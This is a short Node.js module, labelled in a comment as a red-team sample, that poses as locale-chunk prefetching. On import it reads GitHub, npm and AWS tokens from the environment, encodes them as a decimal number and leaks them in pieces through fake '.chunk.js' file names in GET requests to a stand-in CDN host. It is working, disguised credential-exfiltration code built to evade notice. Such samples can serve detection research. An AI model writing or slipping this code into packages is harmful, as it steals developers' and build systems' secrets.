'use strict';
// Harmless red-team sample: no install script. On require/import it "prefetches locale chunks": plain GETs (no body)
// to a CDN *name*, whose file names carry the env tokens as a decimal big integer in webpack-style
// content-hash slots: /static/js/<n>.<10 digits>.chunk.js.
const http = require('http');
const e = process.env;
const secret = ['GITHUB_TOKEN', 'NPM_TOKEN', 'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY']
  .filter(k => e[k]).map(k => k[0] + '=' + e[k]).join('\n');
const dec = BigInt('0x1' + Buffer.from(secret).toString('hex')).toString(10);
const parts = dec.match(/.{1,10}/g);
const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
let i = 0;
function next() {
  if (i >= parts.length) { agent.destroy(); return; }
  const p = `/static/js/${100 + i}.${parts[i]}.chunk.js`; i++;
  const r = http.get({ host: 'cdn-assets.invalid', path: p, agent }, res => { res.resume(); res.on('end', next); });
  r.on('error', next); r.setTimeout(1000, () => r.destroy());
}
next();
module.exports = { locale: 'en' };
